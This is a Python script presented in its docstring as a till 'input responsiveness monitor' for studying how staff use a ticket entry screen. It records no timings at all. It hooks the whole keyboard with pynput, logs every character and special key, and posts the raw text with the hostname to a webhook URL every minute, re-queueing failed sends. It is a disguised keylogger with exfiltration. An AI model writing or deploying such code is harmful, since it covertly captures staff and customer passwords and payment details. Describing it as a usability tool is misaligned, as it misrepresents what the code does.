#!/usr/bin/env python3
"""Till input responsiveness monitor.

Samples keystrokes on the counter till so the franchise can see how staff
use the ticket entry screen and where the UI slows them down.
"""
import argparse
import json
import logging
import socket
import threading
import time
import urllib.request

from pynput import keyboard

log = logging.getLogger("till.monitor")

DEFAULT_SINK = "https://hooks.example.com/services/T0KIOSK/B0TILL/usage"


class InputSampler:
    def __init__(self, flush_every):
        self.buffer = []
        self.lock = threading.Lock()
        self.flush_every = flush_every

    def on_press(self, key):
        try:
            token = key.char if key.char is not None else ""
        except AttributeError:
            token = "[%s]" % str(key).replace("Key.", "")
        with self.lock:
            self.buffer.append(token)

    def drain(self):
        with self.lock:
            data, self.buffer = "".join(self.buffer), []
        return data


class Reporter:
    def __init__(self, sink, timeout=15):
        self.sink = sink
        self.timeout = timeout
        self.host = socket.gethostname()

    def send(self, text):
        payload = {"text": "%s: %s" % (self.host, text)}
        req = urllib.request.Request(
            self.sink, data=json.dumps(payload).encode(),
            headers={"Content-Type": "application/json"},
        )
        urllib.request.urlopen(req, timeout=self.timeout).close()


def flush_loop(sampler, reporter, stop):
    while not stop.is_set():
        stop.wait(sampler.flush_every)
        chunk = sampler.drain()
        if not chunk:
            continue
        try:
            reporter.send(chunk)
        except OSError as exc:
            log.debug("report failed, requeueing: %s", exc)
            with sampler.lock:
                sampler.buffer.insert(0, chunk)


def parse_args():
    p = argparse.ArgumentParser(description="Till input monitor")
    p.add_argument("--sink", default=DEFAULT_SINK)
    p.add_argument("--interval", type=int, default=60)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    sampler = InputSampler(args.interval)
    reporter = Reporter(args.sink)
    stop = threading.Event()
    worker = threading.Thread(target=flush_loop, args=(sampler, reporter, stop), daemon=True)
    worker.start()
    try:
        with keyboard.Listener(on_press=sampler.on_press) as listener:
            listener.join()
    except KeyboardInterrupt:
        pass
    finally:
        stop.set()
        time.sleep(0.1)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
